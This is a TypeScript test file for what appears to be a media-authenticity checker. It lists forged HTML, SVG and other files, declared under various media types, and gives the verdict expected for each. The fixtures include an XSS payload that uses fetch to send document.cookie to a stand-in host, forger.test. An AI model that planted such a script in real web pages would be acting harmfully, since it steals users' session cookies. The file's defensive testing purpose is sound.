import { zeroHash } from "viem";
import { contentHash } from "../../src/core/digest/contentHash.ts";
import { outputHashOfText } from "../../src/core/digest/outputHash.ts";
import { buildRecipe } from "../../src/core/recipe/buildRecipe.ts";
import type { Forgery } from "./Forgery.ts";
import { minting } from "./minted.ts";
import { withBody, withMedia, withRecipe, withSeedline } from "./stage/reword.ts";

const REFUSED = { expected: "not-authentic", check: "content", status: "fail" } as const;
const NOT_KEPT = { ...REFUSED, reason: /kept as PNG, text, generator or style/ } as const;

const SCRIPT = "<script>fetch('https://forger.test/' + document.cookie)</script>";
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">${SCRIPT}</svg>`;
const PAGE = `<!doctype html><title>Authentic</title>${SCRIPT}`;

/** What somebody brought along and calls a work of this media type; its output is the file's text. */
function declared(mediaType: string, file: string, size: { width?: number; height?: number } = {}): Forgery["forge"] {
  return minting({}, async (work, _made, { studio }) => {
    const text = `${file}<!-- ${studio.nextSeed()} -->`;
    const bytes = new TextEncoder().encode(text);
    const outputHash = outputHashOfText(text);
    const recipe = buildRecipe({
      generator: { kind: "digitalCreation", name: "import", version: "1.0.0", hash: zeroHash },
      seed: null,
      params: {},
      inputs: [{ role: "import", contentHash: contentHash(bytes), outputHash }],
      output: { mediaType, ...size, outputHash },
      promptHash: zeroHash,
    });
    const told = withSeedline(withRecipe(await withMedia(work, bytes), recipe), ({ prompt: _, ...seedline }) => ({
      ...seedline,
      marks: [],
    }));
    return withBody(told, { outputHash, seed: null, promptHash: zeroHash, perceptualHash: "0x0000000000000000" });
  });
}

/** Files that would run a script, or look otherwise, where they are shown. */
export const MEDIA_TYPES: readonly Forgery[] = [
  { name: "media: a page with a script, declared as text/html", ...NOT_KEPT, forge: declared("text/html", PAGE) },
  {
    name: "media: a page with a script, declared as application/xhtml+xml",
    ...NOT_KEPT,
    forge: declared("application/xhtml+xml", PAGE),
  },
  {
    name: "media: an SVG with a script, declared as image/svg+xml",
    ...NOT_KEPT,
    forge: declared("image/svg+xml", SVG, { width: 64, height: 64 }),
  },
  { name: "media: an SVG with a script, declared as text/xml", ...NOT_KEPT, forge: declared("text/xml", SVG) },
  { name: "media: a script, declared as text/javascript", ...NOT_KEPT, forge: declared("text/javascript", "alert(1)") },
  {
    name: "media: an SVG with a script, declared as image/png",
    ...{ ...REFUSED, reason: /no readable image\/png/ },
    forge: declared("image/png", SVG, { width: 64, height: 64 }),
  },
  {
    name: "media: a page with a script, declared as plain text",
    // It is one: its characters are shown, and nothing of it runs. That it is somebody's own is declared.
    ...{ expected: "authentic-with-caveats", check: "content", status: "pass", reason: /its text is the one recorded/ },
    forge: declared("text/plain", PAGE),
  },
];
